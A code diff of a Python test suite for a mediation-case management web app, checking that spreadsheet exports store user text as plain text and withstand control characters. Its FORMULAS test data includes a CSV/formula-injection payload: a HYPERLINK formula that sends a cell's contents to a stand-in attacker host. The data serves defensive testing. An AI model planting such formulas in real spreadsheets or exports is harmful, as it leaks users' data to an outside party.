@@ -26,6 +26,12 @@ from mediation_flow.store.tables import CASES, PARTIES, USERS
 from mediation_flow.textinput import scrub
 
 YEAR = date.today().year
+
+
+def _AGREE(town: Any) -> list[tuple[str, dict[str, Any]]]:
+    return [("assign", {"mediator_id": town["mediator"].id}), *HAPPY_PATH[:4]]
+
+
 TOWNSHIP = "500101001"
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&D3,"点击查看")', "+1+2", "-3+4", "@SUM(1,2)", "\t=1+1"]
 STORED = "相邻\x0b纠纷\x1b\x7f\ufffe"
@@ -65,7 +71,9 @@ def _downloads(web: Any, case_id: int, paragraphs: list[str] | None = None) -> d
         found["edited.xlsx"] = response.content
     browser = Browser(web.app)
     assert browser.login("supervisor").status_code == 303
-    page = browser.post("/reports/download", {**params, "format": "xlsx", "paragraphs": "\n\n".join(paragraphs or [])})
+    page = browser.post(
+        "/reports/download", {**params, "format": "xlsx", "paragraphs": "\n".join(paragraphs or ["正文"])}
+    )
     assert page.status_code == 200, page.text[:300]
     found["page.xlsx"] = page.content
     for form in ("registration", "agreement"):
@@ -83,7 +91,7 @@ def _no_formulas(content: bytes) -> list[Any]:
 
 def test_control_characters_in_stored_text_cannot_break_any_export(web: Any, engine: Any, town: Any) -> None:
     case_id = register(engine, town)
-    drive(engine, case_id, town["supervisor"], HAPPY_PATH[:4])
+    drive(engine, case_id, town["supervisor"], _AGREE(town))
     nul = "\x00" if engine.dialect.name == "sqlite" else ""  # PostgreSQL cannot store a NUL at all
     _store(engine, case_id, STORED + nul, "张三\x0b" + nul)
     files = _downloads(web, case_id)
@@ -97,7 +105,7 @@ def test_control_characters_in_stored_text_cannot_break_any_export(web: Any, eng
 
 def test_formulas_in_titles_names_and_paragraphs_are_written_as_text(web: Any, engine: Any, town: Any) -> None:
     case_id = register(engine, town)
-    drive(engine, case_id, town["supervisor"], HAPPY_PATH[:4])
+    drive(engine, case_id, town["supervisor"], _AGREE(town))
     _store(engine, case_id, FORMULAS[0], "=1+1")
     files = _downloads(web, case_id, paragraphs=FORMULAS)
     for name in ("api.xlsx", "edited.xlsx", "page.xlsx"):
@@ -106,7 +114,7 @@ def test_formulas_in_titles_names_and_paragraphs_are_written_as_text(web: Any, e
         assert FORMULAS[0] in texts and texts[FORMULAS[0]].quotePrefix, name
         assert any(str(v).startswith("=1+1") for v in texts), name
         if name != "api.xlsx":
-            for formula in FORMULAS[1:]:
+            for formula in (f.strip() for f in FORMULAS[1:]):  # typed text is stripped: "\t=1+1" is "=1+1"
                 assert formula in texts and texts[formula].data_type == "s", (name, formula)
 
 
@@ -146,10 +154,10 @@ def _accepted(web: Any, url: str, headers: dict[str, str], make: Any, texts: dic
     return answer.json()
 
 
-@settings(max_examples=12, deadline=None, suppress_health_check=list(HealthCheck), database=None)
+@settings(max_examples=8, deadline=None, suppress_health_check=list(HealthCheck), database=None)
 @given(title=_TEXT, summary=_TEXT, name=_TEXT, address=_TEXT, note=_TEXT, facts=_TEXT, terms=_TEXT)
 def test_arbitrary_unicode_through_intake_and_transitions_never_breaks_an_export(
-    web: Any, title: str, summary: str, name: str, address: str, note: str, facts: str, terms: str
+    web: Any, town: Any, title: str, summary: str, name: str, address: str, note: str, facts: str, terms: str
 ) -> None:
     grid, supervisor = api_login(web, "grid_worker"), api_login(web, "supervisor")
 
@@ -163,7 +171,7 @@ def test_arbitrary_unicode_through_intake_and_transitions_never_breaks_an_export
     texts = {"title": title, "summary": summary, "name": name, "address": address}
     case = _accepted(web, "/api/v1/cases", grid, case_body, texts)
     url, version = f"/api/v1/cases/{case['id']}/transitions", case["version"]
-    for trigger, data in HAPPY_PATH[:4]:
+    for trigger, data in _AGREE(town):
 
         def step(
             t: dict[str, str], trigger: str = trigger, data: dict[str, Any] = data, version: int = version
